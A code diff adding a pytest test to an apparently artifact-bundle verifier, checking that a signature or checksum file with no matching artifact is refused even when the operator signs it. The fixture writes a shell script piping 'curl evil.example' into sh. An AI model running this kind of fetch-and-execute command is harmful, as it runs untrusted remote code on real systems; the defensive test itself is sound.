@@ -172,6 +172,35 @@ def test_skip_verify_on_a_deeply_nested_index_is_a_damaged_bundle(
     assert outside(work) == before
 
 
+@pytest.mark.parametrize("companion", ["install.sh.sha512", "install.sh.asc",
+                                       "elastic-agent-9.0.0-linux-x86_64.tar.gz.asc.sha512"])
+@pytest.mark.parametrize("vouching", ["signer", "operator"])
+def test_a_signature_or_checksum_without_its_artifact_is_refused_whoever_vouches(
+        companion: str, vouching: str, work: Path, operator: SigningKey, operator_key: Path,
+        signer_public_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """No artifact beside it, so no signature vouches for it: served as it is, an agent or
+    a person would run it. Not even the operator's signature makes it one a fetch writes."""
+    bundle = work / "bundle"
+    path = f"downloads/beats/elastic-agent/{companion}"
+    (bundle / path).write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    document = json.loads((bundle / "bundle.json").read_text())
+    kind = "artifact-signature" if companion.endswith(".asc") else "artifact-checksum"
+    document["items"].append({"path": path, "kind": kind, "verification": {}})
+    forge(bundle, document)
+    trust = ["--trust-signer", str(signer_public_key)]
+    if vouching == "operator":
+        operator.sign(bundle / "SHA512SUMS", bundle / "SHA512SUMS.asc")
+        trust = ["--trust-key", str(operator_key)]
+    before = outside(work)
+    served = work / "served"
+    code = main(["load", str(bundle), *trust, "--artifacts", str(served), "--quiet"])
+    err = capsys.readouterr().err
+    assert code == 3, err
+    assert f"{path}: a signature or checksum of" in err
+    assert not served.exists()
+    assert outside(work) == before
+
+
 def test_a_hard_link_with_the_same_bytes_passes_with_a_warning(
         work: Path, operator_key: Path, capsys: pytest.CaptureFixture[str]) -> None:
     bundle = work / "bundle"
